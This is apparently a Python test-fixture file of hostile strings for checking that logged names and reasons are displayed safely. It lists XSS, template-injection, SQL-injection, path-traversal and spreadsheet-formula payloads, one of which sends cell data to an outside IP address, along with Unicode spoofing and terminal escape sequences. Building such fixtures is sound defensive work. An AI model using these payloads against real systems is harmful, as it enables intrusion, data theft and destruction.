"""Text that attackers and careless people leave in logs. All of it is valid data and must be shown, never obeyed."""

BIDI = "invoice_\u202efdp.exe\u2066 and \u2067back\u2069"
ZERO_WIDTH = "pay\u200bpal\u200d.example\u2060\ufeff"
NUL_ESCAPED = "before\x00after"
UNBROKEN_WORD = "W" * 60 + "x0" * 30
COMBINING = "".join(letter + "\u0334\u0301\u0358\u036b" * 4 for letter in "ZALGO")
MEGABYTE = "一行が長すぎる理由欄 / a reason that never ends / " * 20_000
"""A field of more than a million bytes."""

HOSTILE_NAMES = (
    "<script>alert('name')</script>",
    "<style>*{display:none}</style>",
    '<img src="file:///etc/passwd" onerror="alert(1)">',
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ your_actions }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("http://203.0.113.66/?q="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
    "javascript:alert(document.domain)",
    "file:///etc/shadow",
    "../../../../etc/passwd",
    BIDI,
    ZERO_WIDTH,
    NUL_ESCAPED,
    UNBROKEN_WORD,
    COMBINING,
    "line one\nline two\r\nline three\ttab",
    "next\u0085line\u2028separator\u2029paragraph",
    "&lt;already escaped&gt; &amp;amp;",
    "**bold** [link](http://203.0.113.66/) `code` # heading",
    "' OR '1'='1'; DROP TABLE actions; --",
    "url(http://203.0.113.66/x.css) @import 'x'",
    "\x1b[31mred\x1b[0m\x07\x08",
    "ﾃｽﾄ①㈱№℡Ⅳ～－",
    "👩‍👩‍👧‍👦🇯🇵🍣",
)
"""Names of objects, user agents and reasons, one at a time."""
